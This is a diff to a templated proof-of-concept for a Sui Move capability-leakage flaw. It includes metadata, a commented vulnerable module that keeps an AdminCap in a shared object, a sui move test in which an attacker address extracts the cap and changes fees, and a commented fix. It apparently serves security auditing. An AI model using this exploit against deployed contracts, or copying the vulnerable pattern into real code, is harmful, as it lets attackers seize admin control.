@@ -1,6 +1,24 @@
+// ---
+// name: Capability Leakage
+// description: Admin capability stored in accessible location
+// vulnerability_type: capability-leak
+// class: unauthenticated-privileged-action
+// chain: sui
+// severity: high
+// cwe: [CWE-269]
+// harness: sui-move-test
+// remediation: "Transfer capabilities to a specific owner in init instead of embedding them in
+//   shared objects, so only the holder can present them."
+// tags: [capability, access-control, shared-object]
+// context:
+//   PACKAGE: Named address of the package under test (the test module lives in its tests/)
+//   MODULE: Module that defines the capability and the shared config
+// references:
+//   - https://move-book.com/programmability/capability
+// ---
 // PoC Template: Capability Leakage
 // Vulnerability: Admin capability stored in accessible location
-// Chain: Sui/Move
+// Chain: Sui/Move (sui move test)
 //
 // Capabilities in Sui control access to privileged operations.
 // If leaked to shared objects, anyone can use them.
@@ -9,40 +27,67 @@
 // VULNERABLE CODE PATTERN
 // ============================================================
 // module example::admin {
-//     use sui::object::{Self, UID};
-//     use sui::transfer;
-//     use sui::tx_context::TxContext;
-//
-//     struct AdminCap has key, store {
+//     public struct AdminCap has key, store {
 //         id: UID,
 //     }
 //
-//     struct Config has key {
+//     public struct Config has key {
 //         id: UID,
-//         admin_cap: AdminCap,  // BUG: Capability stored in shared object!
+//         admin_cap: Option<AdminCap>,  // BUG: Capability stored in shared object!
+//         fee_bps: u64,
 //     }
 //
 //     fun init(ctx: &mut TxContext) {
 //         let cap = AdminCap { id: object::new(ctx) };
-//         let config = Config { id: object::new(ctx), admin_cap: cap };
+//         let config = Config { id: object::new(ctx), admin_cap: option::some(cap), fee_bps: 30 };
 //         transfer::share_object(config);  // Now anyone can access AdminCap
 //     }
+//
+//     public fun take_admin_cap(config: &mut Config): AdminCap { config.admin_cap.extract() }
 // }
+//
+// The target module needs a `#[test_only] public fun init_for_testing(ctx: &mut TxContext)`
+// that calls its `init`.
 
 // ============================================================
-// EXPLOIT SCENARIO
+// EXPLOIT TEST (sui move test)
 // ============================================================
-// 1. Config is a shared object containing AdminCap
-// 2. Attacker borrows Config mutably in a transaction
-// 3. Attacker extracts AdminCap and uses it for privileged operations
-// 4. All admin protections are bypassed
+#[test_only]
+module {{PACKAGE}}::capability_leak_tests {
+    use sui::test_scenario as ts;
+    use {{PACKAGE}}::{{MODULE=admin}}::{Self, {{CAP_TYPE=AdminCap}}, {{CONFIG_TYPE=Config}}};
+
+    const ADMIN: address = @{{ADMIN_ADDRESS=0xAD}};
+    const ATTACKER: address = @{{ATTACKER_ADDRESS=0xBAD}};
+
+    #[test]
+    fun test_capability_leak() {
+        let mut scenario = ts::begin(ADMIN);
+        {{MODULE}}::init_for_testing(ts::ctx(&mut scenario));
+
+        // 1. The attacker reaches the capability through the shared config
+        ts::next_tx(&mut scenario, ATTACKER);
+        let mut config = ts::take_shared<{{CONFIG_TYPE}}>(&scenario);
+        let cap = {{MODULE}}::{{LEAK_FUNCTION=take_admin_cap}}(&mut config);
+
+        // 2. ... uses it for a privileged operation
+        {{MODULE}}::{{PRIVILEGED_FUNCTION=set_fee}}(&cap, &mut config, {{FEE_AMOUNT=10000}});
+        ts::return_shared(config);
+
+        // 3. ... and keeps it
+        transfer::public_transfer(cap, ATTACKER);
+        ts::next_tx(&mut scenario, ATTACKER);
+        assert!(ts::has_most_recent_for_sender<{{CAP_TYPE}}>(&scenario), 0);
+        ts::end(scenario);
+    }
+}
 
 // ============================================================
 // FIX: Transfer capabilities to specific addresses
 // ============================================================
 // fun init(ctx: &mut TxContext) {
 //     let cap = AdminCap { id: object::new(ctx) };
-//     transfer::transfer(cap, tx_context::sender(ctx));  // Owned by deployer
-//     let config = Config { id: object::new(ctx) };
+//     transfer::transfer(cap, ctx.sender());  // Owned by deployer
+//     let config = Config { id: object::new(ctx), fee_bps: 30 };
 //     transfer::share_object(config);  // Config shared, but cap is safe
 // }